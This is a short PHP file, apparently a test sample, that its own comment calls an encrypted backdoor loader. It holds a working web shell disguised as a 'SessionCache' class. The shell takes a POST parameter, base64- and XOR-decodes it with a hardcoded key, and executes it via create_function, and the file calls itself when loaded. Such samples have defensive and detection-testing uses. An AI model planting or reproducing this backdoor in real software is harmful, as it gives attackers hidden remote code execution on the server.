<?php
// an encrypted backdoor's loader with its steps in methods (written for the tests, never run)
class SessionCache
{
    private $param = 'token';
    private $key = '3c6e0b8a9c15224a';

    public function handle()
    {
        $source = $_POST;
        $decode = 'base64_decode';
        $data = $this->shift($decode($source[$this->param]), $this->key);
        $this->task($data);
    }

    private function shift($data, $key)
    {
        for ($i = 0; $i < strlen($data); $i++) {
            $c = $key[($i + 1) & 15];
            $data[$i] = $data[$i] ^ $c;
        }
        return $data;
    }

    private function task($code)
    {
        $run = create_function('', $code);
        $run();
    }
}
(new SessionCache())->handle();
